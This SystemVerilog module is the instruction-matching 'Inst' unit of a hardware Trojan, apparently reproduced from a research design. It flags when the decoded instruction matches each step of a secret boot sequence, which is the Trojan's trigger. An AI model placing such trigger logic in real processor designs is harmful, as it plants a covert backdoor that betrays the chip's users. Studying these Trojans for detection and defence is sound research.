// hit_inst: the "Inst" unit of the Trojan, which identifies the boot-sequence instructions.
//
// Combinational. For each of the BOOT_LEN boot elements k it raises match[k] when the
// instruction now in the decode stage is boot instruction k. Following the circuit-reuse
// rule of the source model (take the cheaper of "reuse the decoder outputs" and "compare
// the opcode"), each element is identified one of two ways, chosen per element by REUSE:
//   REUSE[k] = 1: compare the decoder's identity output with BOOT_SEQ[k];
//   REUSE[k] = 0: compare the instruction word's opcode / function fields with the
//                 pattern of BOOT_SEQ[k] (hit_pkg::id_pattern).
// Both ways give the same answer for every instruction word; they differ only in area.
// The per-element choice in the defaults is this design's, since the area figures that
// would decide it are not available. Validity is not looked at here: the State unit
// ignores null instructions.
module hit_inst
  import hit_pkg::*;
#(
  parameter int                         BOOT_LEN = BOOT_LEN_DEF,
  parameter inst_id_e [BOOT_LEN-1:0]    BOOT_SEQ = BOOT_SEQ_DEF,
  parameter logic     [BOOT_LEN-1:0]    REUSE    = BOOT_REUSE_DEF
) (
  input  logic [31:0]         instr,   // instruction word in decode
  input  inst_id_e            dec_id,  // decoder output for the same word
  output logic [BOOT_LEN-1:0] match    // match[k]: it is boot instruction k
);
  for (genvar k = 0; k < BOOT_LEN; k++) begin : g_elem
    if (REUSE[k]) begin : g_reuse
      assign match[k] = (dec_id == BOOT_SEQ[k]);
    end else begin : g_opcode
      localparam pattern_t P = id_pattern(BOOT_SEQ[k]);
      assign match[k] = ((instr & P.care) == P.value);
    end
  end
endmodule
